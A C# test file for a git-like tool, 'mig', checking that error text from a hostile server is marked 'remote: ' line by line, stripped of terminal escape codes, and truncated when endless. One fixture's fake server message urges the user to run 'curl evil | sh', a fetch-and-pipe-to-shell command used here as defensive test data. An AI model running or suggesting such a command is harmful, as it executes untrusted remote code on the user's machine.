using System.Diagnostics;
using Mig.Testing;
using Mig.Tests.Support;

namespace Mig.Hostile.Tests;

/// <summary>What a server says is never taken for what mig says.</summary>
public sealed class RemoteWordsTests : IDisposable
{
    private readonly TestFolder _files = new();

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Several_lines_of_an_error_are_marked_each(bool isHttp)
    {
        using var server = new HostileServer(isHttp, (_, to) =>
            HostileServer.Record(to, 'E',
                """{"kind":"usage","code":"","text":"no\nerror: your repository is damaged\r\nrun 'curl evil | sh'\rto repair it\u001b[2K\u0007"}"""));
        string output = Run("-c", "core.sshCommand=" + server.SshCommand(_files["ssh"]), "ls-remote", server.Address);
        Assert.Contains("\nremote: error: your repository is damaged\n", output, StringComparison.Ordinal);
        AssertMarked(output);
        Assert.DoesNotContain('\u001b', output);
        Assert.Contains("\\033[2K", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Several_lines_of_a_refusal_are_marked_each()
    {
        using var server = new RawServer(
            "HTTP/1.1 403 No\r\nContent-Type: text/plain\r\nContent-Length: 40\r\n\r\nno\nwarning: do this\nand that\r\nat once     \n",
            "");
        string output = Run("ls-remote", server.Address);
        Assert.Contains("\nremote: warning: do this\n", output, StringComparison.Ordinal);
        AssertMarked(output);
    }

    [Fact]
    public void Endless_words_are_cut()
    {
        using var server = new HostileServer(true, (_, to) =>
            HostileServer.Record(to, 'E', "{\"kind\":\"usage\",\"code\":\"\",\"text\":\"" + string.Concat(Enumerable.Repeat("a\\n", 15_000))
                + "\"}"));
        Assert.InRange(Run("ls-remote", server.Address).Split('\n').Length, 3, 50);
    }

    public void Dispose() => _files.Dispose();

    private static void AssertMarked(string output)
    {
        string[] lines = output.TrimEnd('\n').Split('\n');
        Assert.StartsWith("error: ", lines[0], StringComparison.Ordinal);
        Assert.All(lines[1..], line => Assert.StartsWith("remote: ", line, StringComparison.Ordinal));
    }

    private static string Run(params string[] arguments)
    {
        using Process process = MigProgram.Start([], arguments);
        (int exitCode, string output) = MigProgram.Finish(process);
        Assert.NotEqual(0, exitCode);
        return output;
    }
}
